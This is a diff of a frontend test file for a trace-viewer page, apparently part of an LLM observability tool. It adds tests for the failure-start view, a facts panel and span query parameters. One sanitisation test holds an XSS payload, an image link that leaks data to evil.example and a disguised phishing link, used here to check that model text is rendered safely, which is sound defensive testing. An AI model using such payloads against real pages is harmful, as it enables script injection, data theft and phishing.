@@ -1,9 +1,9 @@
 import { screen, within } from '@testing-library/dom'
 import { describe, expect, it, vi } from 'vitest'
-import type { Span, Trace, TraceOutline } from '../../web/src/api/generated/api.ts'
+import type { Span, Trace, TraceOutline, TraceRow, TraceRowList } from '../../web/src/api/generated/api.ts'
 import { exampleOf } from './api-description.ts'
 import { failed, onRequest, requestsOf } from './mock-api.ts'
-import { address, eventually, heading, idOf, inSupport, openPage, signIn } from './open-page.ts'
+import { address, eventually, heading, idOf, inSupport, openPage, reloadPage, signIn } from './open-page.ts'
 
 const PAGE = inSupport(`traces/${idOf(5)}`)
 
@@ -77,6 +77,29 @@ describe('trace page', () => {
     await eventually(() => expect(address()).toBe(`${PAGE}?span=b`))
   })
 
+  it('opens where the failure began, and at the first span if nothing failed', async () => {
+    openTrace()
+    await heading('POST /returns')
+    onRequest('GET /traces/{traceId}/outline', { ...OUTLINE, errors: [] })
+    const user = reloadPage()
+    await heading('turn')
+    await user.click(screen.getByRole('radio', { name: 'Timeline' }))
+    await user.keyboard('z')
+    await screen.findByText('250 ms to 750 ms')
+    await user.keyboard('0')
+    await eventually(() => expect(screen.queryByText('250 ms to 750 ms')).toBeNull())
+  })
+
+  it('the facts name the environment of the trace and where its cost comes from', async () => {
+    const row = { ...exampleOf<TraceRow>('TraceRow'), id: TRACE.id, environment: 'staging', costBasis: 'reported' }
+    onRequest('GET /traces', { ...exampleOf<TraceRowList>('TraceRowList'), data: [row] })
+    const user = openTrace()
+    await user.click(await screen.findByRole('button', { name: 'Facts' }))
+    const facts = within(await screen.findByRole('complementary', { name: 'Facts' }))
+    await facts.findByText('staging')
+    await facts.findByText('Cost reported by the sender')
+  })
+
   it('an unknown cost is unknown, never $0', async () => {
     openTrace()
     await screen.findByText('cost unknown')
@@ -84,7 +107,7 @@ describe('trace page', () => {
   })
 
   it('requests the trace without its spans, and each shown span by itself', async () => {
-    openTrace()
+    openTrace({}, `${PAGE}?span=d`)
     await heading('answer')
     expect(requestsOf('GET /traces/{traceId}')[0]?.query).toEqual({ spans: 'none' })
     expect(requestsOf('GET /traces/{traceId}/spans/{spanId}').map(({ params }) => params['spanId'])).toContain('d')
@@ -123,7 +146,7 @@ describe('trace page', () => {
       { role: 'tool', parts: [{ type: 'tool_result', id: 'call_1', name: 'lookup', result: 'shipped' }] },
       { role: 'assistant', parts: [{ type: 'hologram', shape: 'cube' }] },
     ]
-    openTrace({ d: { messages } })
+    openTrace({ d: { messages } }, `${PAGE}?span=d`)
     const items = within(await screen.findByRole('list', { name: 'Messages' })).getAllByRole('listitem')
     const texts = items.map(({ textContent }) => textContent)
     expect(texts[0]).toContain('userHello')
@@ -134,7 +157,7 @@ describe('trace page', () => {
 
   it('text of a model cannot add elements, load images or hide where a link leads', async () => {
     const text = '<img src=x onerror=alert(1)> ![secret](https://evil.example/?d=1) [bank](https://evil.example/login)'
-    openTrace({ d: { messages: [{ role: 'assistant', parts: [{ type: 'text', text }] }] } })
+    openTrace({ d: { messages: [{ role: 'assistant', parts: [{ type: 'text', text }] }] } }, `${PAGE}?span=d`)
     const link = await screen.findByRole('link', { name: /bank/ })
     expect(link.textContent).toBe('bank (evil.example)')
     expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
@@ -143,7 +166,7 @@ describe('trace page', () => {
   })
 
   it('finds spans by name at once, by content when the server has searched, and goes from one to the next', async () => {
-    const user = openTrace()
+    const user = openTrace({}, `${PAGE}?span=d`)
     onRequest('GET /traces/{traceId}/search', {
       data: [{ spanId: 'd', matches: [{ field: 'output', excerpt: '… return …' }] }],
       isComplete: true,
@@ -161,7 +184,7 @@ describe('trace page', () => {
   })
 
   it('the mapping shows what became of each attribute', async () => {
-    const user = openTrace()
+    const user = openTrace({}, `${PAGE}?span=d`)
     onRequest('GET /traces/{traceId}/mapping', {
       data: [
         {
